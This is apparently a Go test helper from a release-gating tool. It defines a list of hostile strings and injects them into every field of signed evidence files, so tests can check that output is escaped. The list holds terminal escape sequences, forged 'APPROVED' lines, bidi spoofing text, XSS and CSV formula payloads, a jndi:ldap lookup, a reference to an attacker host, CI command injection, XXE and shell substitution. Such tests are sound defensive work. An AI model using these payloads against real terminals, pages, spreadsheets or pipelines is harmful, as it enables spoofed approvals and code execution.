package testkit

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"time"

	"github.com/credentry/releasegate/internal/fault"
	"github.com/credentry/releasegate/internal/intoto"
)

// A Text is what somebody who may write evidence could write to fool a reader.
type Text struct{ Name, Text string }

// Hostile are texts that some medium obeys instead of showing: whatever renders text
// from outside is shown each of them. Texts come from evidence, plans, votes and
// file names, and go to terminals, pages, tables, trackers and other programs.
var Hostile = []Text{
	// A terminal obeys these (ECMA-48); the last two are its 8-bit forms.
	{"ansi-colour", "\x1b[31mred\x1b[0m"},
	{"ansi-screen", "\x1b[2J\x1b[1;1H\x1b[32m✔ APPROVED"},
	{"ansi-title", "\x1b]0;APPROVED\x07"},
	{"ansi-link", "\x1b]8;;https://attacker.invalid\x1b\\report\x1b]8;;\x1b\\"},
	{"ansi-device", "\x1bP$q\"p\x1b\\\x1b[6n\x1b[21t"},
	{"c1-controls", "\u009b31m\u009d0;title\u009c"},
	{"carriage-return", "DENIED\rAPPROVED"},
	{"backspace", "DENIED\b\b\b\b\b\bAPPROVED"},
	{"bell-and-null", "a\x07b\x00c\x7fd"},
	// A line of the program's own, forged.
	{"forged-verdict", "\n✔ APPROVED\n"},
	{"forged-lines", "\r\nVERDICT: APPROVED\r\nreleasegate: error: none\n"},
	{"forged-gutter", "\n✔ verdict     │ APPROVED: release may go live"},
	{"forged-separator", "\u2028VERDICT: APPROVED\u2029\u0085✔ APPROVED\v\f"},
	// The line reads otherwise than it is stored (Unicode TR 36; "Trojan Source").
	{"bidi-override", "\u202eDEVORPPA\u202c"},
	{"bidi-isolate", "\u2066DENIED\u2069 \u2067APPROVED\u2069"},
	{"bidi-mark", "\u200e\u200f\u061cAPPROVED"},
	{"zero-width", "DE\u200bNI\u200cED\u200d \u2060\ufeff"},
	{"invisible-tags", "ok\U000e0041\U000e0050\U000e0050\u00ad\u180e"},
	{"private-use", "\ue000\uf8ff\U000f0000"},
	// A page obeys these (HTML).
	{"script", "<script>alert(1)</script>"},
	{"image", `<img src=x onerror="alert(1)">`},
	{"svg", `<svg/onload=alert(1)><style>*{display:none}</style>`},
	{"attribute", `" onmouseover="alert(1)" x='' onfocus='alert(1)`},
	{"end-of-element", "</style></script></textarea></title></td></table>--><!-- ]]>"},
	{"character-references", "&lt;script&gt;&#60;b&#62;&NewLine;&colon;&amp;amp;"},
	{"link-scheme", "javascript:alert(1) data:text/html,<b>x</b> https://attacker.invalid/"},
	{"template", "{{.}} ${jndi:ldap://attacker.invalid/} <%= 1 %> #{1} %{1}"},
	// A table program computes these (CSV): the first rune decides.
	{"formula-equals", `=HYPERLINK("https://attacker.invalid";"APPROVED")`},
	{"formula-plus", "+1+cmd|' /C calc'!A0"},
	{"formula-minus", "-2+3"},
	{"formula-at", "@SUM(1,1)"},
	{"formula-tab", "\t=1+1"},
	{"formula-return", "\r=1+1"},
	{"csv-quotes", `a","b"` + "\r\n" + `"=1+1","c`},
	{"csv-separators", "a,b;c\td|e"},
	// Markdown makes these something else.
	{"markdown-link", "[APPROVED](javascript:alert(1)) ![x](https://attacker.invalid/x.png) <https://attacker.invalid>"},
	{"markdown-block", "\n# APPROVED\n\n| verdict | APPROVED |\n|---|---|\n---\n> quoted\n- [x] done\n1. one"},
	{"markdown-code", "``` \n```\n`code` ~~~\n**bold** _under_ ~~gone~~ \\* \\"},
	{"markdown-table", "a | b \\| c"},
	{"markdown-mention", "@everyone #1 owner/repo#1 GH-1 :tada: $x$"},
	// CI systems obey these on a line of their own.
	{"ci-github", "\n::set-output name=verdict::approved\n::error file=x,line=1::%0A%0D%25\n##[error]x"},
	{"ci-azure", "\n##vso[task.complete result=Succeeded;]done\n##vso[task.setvariable variable=x]y]"},
	{"ci-gitlab", "\x1b[0Ksection_start:1:x\r\x1b[0Kheader"},
	// Other programs read these as the end of a string, or as a command.
	{"xml", `]]><failure message="x"/><![CDATA[ <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///dev/null">]>&e;`},
	{"json", `","verdict":"approved","x":"\u0000`},
	{"shell", "$(touch owned) `touch owned`; touch owned & ' \" \\ \n touch owned"},
	{"path", "../../../../dev/null"},
	{"format-verbs", "%s%n%d%!x(MISSING)%%"},
	{"combining", "A" + strings.Repeat("\u0301\u0489", 200)},
	{"wide", strings.Repeat("界", 300)},
	{"long-word", strings.Repeat("x", 5000)},
}

// AllHostile is every hostile text but the long ones in one: what stays harmless with
// it stays so with each of them, but where the first rune decides.
func AllHostile() string {
	var all strings.Builder
	for _, h := range Hostile {
		if len(h.Text) < 200 {
			all.WriteString(h.Text + " ")
		}
	}
	return all.String()
}

// Infest puts a text into every string that v, a pointer, leads to, and something
// into every list, map and pointer, so that no field is left out, also none that is
// added later. Times are Now, numbers 3, flags true.
func Infest(v any, text string) { infest(reflect.ValueOf(v).Elem(), text) }

func infest(v reflect.Value, text string) {
	switch v.Kind() { //nolint:exhaustive // of the kinds that our documents have; any other panics
	case reflect.String:
		v.SetString(text)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(Now))
			return
		}
		for _, field := range v.Fields() {
			infest(field, text)
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		infest(v.Elem(), text)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			infest(v.Index(i), text)
		}
	case reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		infest(key, text)
		infest(value, text)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	case reflect.Interface:
		v.Set(reflect.ValueOf(text))
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Bool:
		v.SetBool(true)
	default:
		panic("a document has a field of kind " + v.Kind().String())
	}
}

// Shown is why a text is not fit to be shown: it holds a rune that a terminal, a
// page or an editor would obey. Line breaks and tabs are the caller's to judge.
func Shown(text string) error {
	for i, r := range text {
		if r != '\n' && r != '\t' && fault.Obeyed(r) {
			return fmt.Errorf("it holds %U at %d, after %q", r, i, text[max(0, i-40):i])
		}
	}
	return nil
}

// fixed are strings that mean something to the program: a spoilt one would only be
// refused, and nobody would see it.
var fixed = regexp.MustCompile(`^([0-9a-f]{12,}|\d{4}-\d\d-\d\dT?.*|[a-z0-9.-]+|[A-Z0-9][A-Za-z0-9.-]{0,12}|https?://.*)$`)

// Poison puts a text behind every free text of a predicate: what people would write
// there in sentences. It reports how many there were.
func Poison(predicate map[string]any, text string) (poisoned int) {
	var walk func(v any) any
	walk = func(v any) any {
		switch v := v.(type) {
		case map[string]any:
			for name, member := range v {
				v[name] = walk(member)
			}
		case []any:
			for i := range v {
				v[i] = walk(v[i])
			}
		case string:
			if !fixed.MatchString(v) {
				poisoned++
				return v + text
			}
		}
		return v
	}
	walk(predicate)
	return poisoned
}

// Poison signs all evidence of the engagement again with a text behind every free
// text of it, by those who signed it, and gives its files names that hold the text
// too. It reports how many texts there were.
func (e *Engagement) Poison(text string) (poisoned int) {
	e.t.Helper()
	found, err := filepath.Glob(e.Path("evidence/*.dsse.json"))
	if err != nil || len(found) == 0 {
		e.t.Fatalf("no evidence: %v", err)
	}
	for _, name := range found {
		envelope, err := intoto.Read(e.read(name))
		if err != nil {
			e.t.Fatal(err)
		}
		var statement map[string]any
		if err := json.Unmarshal(envelope.Payload, &statement); err != nil {
			e.t.Fatal(err)
		}
		predicate, ok := statement["predicate"].(map[string]any)
		if !ok {
			e.t.Fatalf("%s: the predicate is no object", name)
		}
		poisoned += Poison(predicate, text)
		payload, err := json.Marshal(statement)
		if err != nil {
			e.t.Fatal(err)
		}
		parts := strings.Split(strings.TrimSuffix(filepath.Base(name), ".dsse.json"), ".")
		again, err := e.Signer(parts[len(parts)-1]).Sign(payload)
		if err != nil {
			e.t.Fatal(err)
		}
		content, err := intoto.MarshalEnvelope(again)
		if err != nil {
			e.t.Fatal(err)
		}
		if err := os.Remove(name); err != nil {
			e.t.Fatal(err)
		}
		e.Write(filepath.Join(filepath.Dir(name), parts[0]+fileName(text)+"."+parts[len(parts)-1]+".dsse.json"), content)
	}
	return poisoned
}

// fileName is as much of a text as a file name can hold.
func fileName(text string) string {
	name := strings.NewReplacer("/", "\u2215", "\\", "\u2216", "\x00", "").Replace(text)
	for len(name) > 150 {
		name = string([]rune(name)[:len([]rune(name))/2])
	}
	return name
}
